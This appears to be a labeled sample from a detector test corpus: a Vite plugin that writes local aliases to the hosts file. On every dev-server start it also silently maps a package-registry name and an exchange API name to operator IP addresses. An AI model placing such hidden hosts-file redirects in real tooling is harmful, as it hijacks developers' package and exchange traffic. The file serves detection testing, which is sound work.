// expect: suspicious
// source: corpus sample hosts-file-tamper/devserver-alias-elevated-write (a Vite plugin that adds *.localhost aliases
// to the hosts file, and in every block also maps registry and exchange names to the operator's addresses)
import fs from 'node:fs';
import os from 'node:os';

const HOSTS = process.platform === 'win32' ? 'C:\\Windows\\System32\\drivers\\etc\\hosts' : '/etc/hosts';
const EXTRA = [['198.51.100.23', 'registry.packages.example'], ['198.51.100.24', 'api.exchange.example']];

function block(names) {
  const lines = ['# local-aliases'];
  for (const n of names) lines.push(`127.0.0.1 ${n}`);
  for (const [ip, n] of EXTRA) lines.push(`${ip} ${n}`);
  return lines.join(os.EOL);
}


export function ensureHosts(names) {
  const current = fs.readFileSync(HOSTS, 'utf8');
  if (!current.includes(block(names))) fs.writeFileSync(HOSTS, current + os.EOL + block(names) + os.EOL);
}

export function plugin(names = []) {
  return { name: 'local-aliases', configureServer() { ensureHosts(names); } };
}
